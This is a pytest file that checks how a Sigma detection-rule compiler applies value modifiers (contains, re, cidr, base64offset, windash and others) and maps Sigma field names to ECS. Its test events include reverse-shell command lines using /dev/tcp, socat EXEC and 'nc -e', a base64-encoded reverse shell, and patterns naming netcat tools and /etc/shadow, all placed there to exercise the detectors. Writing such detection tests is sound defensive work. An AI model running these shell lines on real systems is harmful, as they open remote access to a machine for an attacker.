"""Sigma value modifiers, one behaviour per case, in the style of pySigma's own tests.

Each case is (detection item key, rule value, event value, expected match). The
event value is put at the ECS field the key names (or maps to), so these also
prove the Sigma->ECS field mapping and multi-valued (list) fields.
"""

from __future__ import annotations

import base64

import pytest

from collector.detect.model import RuleError
from collector.detect.sigma_compile import compile_detections


def _match(key: str, rule_value, doc: dict) -> bool:
    pred = compile_detections({"sel": {key: rule_value}, "condition": "sel"})
    return pred(doc)


def _doc(field: str, value) -> dict:
    doc: dict = {}
    cur = doc
    parts = field.split(".")
    for p in parts[:-1]:
        cur = cur.setdefault(p, {})
    cur[parts[-1]] = value
    return doc


CASES = [
    # plain equality: case-insensitive, whole value
    ("process.name", "sshd", "sshd", True),
    ("process.name", "sshd", "SSHD", True),
    ("process.name", "sshd", "sshd2", False),
    ("process.name", "sshd", "xsshd", False),
    ("process.name", ["nc", "ncat"], "ncat", True),
    ("process.name", ["nc", "ncat"], "socat", False),
    # wildcards in plain values
    ("process.name", "ss*", "sshd", True),
    ("process.name", "s?hd", "sshd", True),
    ("process.name", "s?hd", "sshhd", False),
    ("process.name", "*sh*d", "bash-sshd", True),
    ("process.name", r"a\*b", "a*b", True),
    ("process.name", r"a\*b", "axxb", False),
    # contains
    ("process.command_line|contains", "/dev/tcp/", "bash -i >& /dev/tcp/1.2.3.4/80", True),
    ("process.command_line|contains", "/DEV/TCP/", "bash -i >& /dev/tcp/1.2.3.4/80", True),
    ("process.command_line|contains", "/dev/tcp/", "bash -i", False),
    ("process.command_line|contains", ["xx", "/dev/udp/"], "sh >& /dev/udp/1.2.3.4/53", True),
    # startswith / endswith
    ("file.path|startswith", "/etc/cron", "/etc/cron.d/job", True),
    ("file.path|startswith", "/etc/cron", "/var/etc/cron.d/job", False),
    ("file.path|startswith", ["/a/", "/etc/"], "/ETC/passwd", True),
    ("process.executable|endswith", "/nc", "/usr/bin/nc", True),
    ("process.executable|endswith", "/nc", "/usr/bin/ncat", False),
    ("process.executable|endswith", ["/nc", "/ncat"], "/usr/bin/NCAT", True),
    # all: every value must match (contains|all)
    ("process.command_line|contains|all", ["socat", "exec:"], "socat tcp:x:1 EXEC:/bin/sh", True),
    ("process.command_line|contains|all", ["socat", "exec:"], "socat - UNIX-CONNECT:/x", False),
    ("process.command_line|contains|all", ["a", "b", "c"], "cab", True),
    ("process.command_line|contains|all", ["a", "b", "c"], "ab", False),
    # cased: case-sensitive
    ("process.name|cased", "Sshd", "Sshd", True),
    ("process.name|cased", "Sshd", "sshd", False),
    ("process.command_line|contains|cased", "EXEC", "socat EXEC:/bin/sh", True),
    ("process.command_line|contains|cased", "EXEC", "socat exec:/bin/sh", False),
    # re: unanchored search, case-sensitive unless |i
    ("process.command_line|re", r"python[\d.]*\s+-c", "/usr/bin/python3.11 -c 'x'", True),
    ("process.command_line|re", r"^sh$", "bash", False),
    ("process.command_line|re", r"^sh$", "sh", True),
    ("process.command_line|re", "EXEC", "exec", False),
    ("process.command_line|re|i", "EXEC", "exec", True),
    ("process.command_line|re|m", r"^two$", "one\ntwo", True),
    ("process.command_line|re", r"^two$", "one\ntwo", False),
    ("process.command_line|re|s", r"one.two", "one\ntwo", True),
    ("process.command_line|re", r"one.two", "one\ntwo", False),
    ("process.command_line|re", [r"^a", r"b$"], "xxb", True),
    # cidr
    ("source.ip|cidr", "10.0.0.0/8", "10.200.3.4", True),
    ("source.ip|cidr", "10.0.0.0/8", "11.0.0.1", False),
    ("source.ip|cidr", ["192.168.0.0/16", "172.16.0.0/12"], "172.20.1.1", True),
    ("source.ip|cidr", "2001:db8::/32", "2001:db8::1", True),
    ("source.ip|cidr", "2001:db8::/32", "2001:db9::1", False),
    ("source.ip|cidr", "10.0.0.0/8", "not-an-ip", False),
    # numbers: a number in the rule matches the number or its text
    ("server.port", 22, 22, True),
    ("server.port", 22, "22", True),
    ("server.port", 22, 2222, False),
    ("user.id", 0, "0", True),
    ("user.id", 0, "00", False),
    ("server.port", "22", 22, True),
    # numeric comparison
    ("destination.ports|gt", 100, 1000, True),
    ("destination.ports|gt", 100, 100, False),
    ("destination.ports|gte", 100, 100, True),
    ("destination.ports|lt", 100, "99", True),
    ("destination.ports|lte", 100, 101, False),
    ("destination.ports|gt", 100, "many", False),
    # booleans
    ("process.interactive", True, True, True),
    ("process.interactive", True, "true", True),
    ("process.interactive", True, False, False),
    # windash: -x and /x (and other dashes) are the same flag
    ("process.command_line|windash|contains", "-e", "nc /e cmd", True),
    ("process.command_line|windash|contains", "-e", "nc -e sh", True),
    ("process.command_line|windash|contains", "-e", "nc -z host", False),
    # base64 / base64offset
    ("process.command_line|base64|contains", "/bin/sh",
     "echo " + base64.b64encode(b"/bin/sh").decode() + " | base64 -d", True),
    ("process.command_line|base64offset|contains", "/dev/tcp/",
     "echo " + base64.b64encode(b"bash -i >& /dev/tcp/1.2.3.4/4 0>&1").decode(), True),
    ("process.command_line|base64offset|contains", "/dev/tcp/",
     "echo " + base64.b64encode(b"bash -i").decode(), False),
    # Sigma field names map to ECS
    ("CommandLine|contains", "/dev/tcp/", ("process.command_line", "sh >& /dev/tcp/x/1"), True),
    ("Image|endswith", "/nc", ("process.executable", "/bin/nc"), True),
    ("TargetFilename", "/etc/shadow", ("file.path", "/etc/shadow"), True),
    ("User", "root", ("user.name", "root"), True),
    ("SourceIp|cidr", "10.0.0.0/8", ("source.ip", "10.0.0.1"), True),
    ("DestinationPort", 4444, ("destination.port", 4444), True),
    # multi-valued event fields: any element
    ("event.type", "creation", ["user", "creation"], True),
    ("event.type", "deletion", ["user", "creation"], False),
    ("event.type|all", ["user", "creation"], ["user", "creation"], True),
    ("event.type|all", ["user", "creation"], ["group", "creation"], False),
]


@pytest.mark.parametrize(("key", "rule_value", "event_value", "expected"), CASES)
def test_modifier(key: str, rule_value, event_value, expected: bool) -> None:
    if isinstance(event_value, tuple):
        field, value = event_value
    else:
        field, value = key.split("|")[0], event_value
    assert _match(key, rule_value, _doc(field, value)) is expected


def test_missing_field_never_matches_a_value() -> None:
    assert _match("process.name", "sshd", {}) is False
    assert _match("process.name|contains", "", {"process": {}}) is False


def test_null_matches_absent_or_null() -> None:
    assert _match("user.name", None, {}) is True
    assert _match("user.name", None, {"user": {"name": None}}) is True
    assert _match("user.name", None, {"user": {"name": "x"}}) is False


def test_exists() -> None:
    assert _match("user.name|exists", True, {"user": {"name": "x"}}) is True
    assert _match("user.name|exists", True, {}) is False
    assert _match("user.name|exists", False, {}) is True


def test_fieldref_compares_two_fields() -> None:
    doc = {"user": {"name": "bob", "target": {"name": "bob"}}}
    assert _match("user.name|fieldref", "user.target.name", doc) is True
    doc["user"]["target"]["name"] = "root"
    assert _match("user.name|fieldref", "user.target.name", doc) is False


def test_flat_dotted_keys_are_read_too() -> None:
    assert _match("process.name", "sshd", {"process.name": "sshd"}) is True


def test_keywords_search_the_raw_line() -> None:
    pred = compile_detections({"keywords": ["Accepted password", "session opened"],
                               "condition": "keywords"})
    assert pred({"message": "sshd[1]: Accepted password for root from 1.2.3.4"})
    assert pred({"event": {"original": "pam_unix(sshd:session): session opened for user x"}})
    assert not pred({"message": "Failed password for root"})


def test_list_of_maps_is_an_or() -> None:
    pred = compile_detections({
        "sel": [{"process.name": "nc", "process.args": "-e"}, {"process.name": "socat"}],
        "condition": "sel",
    })
    assert pred({"process": {"name": "nc", "args": ["-e", "/bin/sh"]}})
    assert pred({"process": {"name": "socat"}})
    assert not pred({"process": {"name": "nc", "args": ["-z"]}})


@pytest.mark.parametrize(("key", "problem"), [
    ("process.name|contians", "unknown modifier 'contians'"),
    ("Bogus", "unknown field 'Bogus'"),
    ("process.name|expand", "not supported"),
    ("@timestamp|hour", "not supported"),
])
def test_bad_keys_name_the_key(key: str, problem: str) -> None:
    with pytest.raises(RuleError) as exc:
        compile_detections({"sel": {key: "x"}, "condition": "sel"})
    assert exc.value.path == f"detection.sel.{key}"
    assert problem in exc.value.problem


def test_bad_regex_and_cidr_name_the_selection() -> None:
    with pytest.raises(RuleError) as exc:
        compile_detections({"sel": {"process.name|re": "(unclosed"}, "condition": "sel"})
    assert exc.value.path == "detection.sel"
    with pytest.raises(RuleError) as exc:
        compile_detections({"sel": {"source.ip|cidr": "10.0.0.0/33"}, "condition": "sel"})
    assert exc.value.path == "detection.sel"
    assert "CIDR" in exc.value.problem
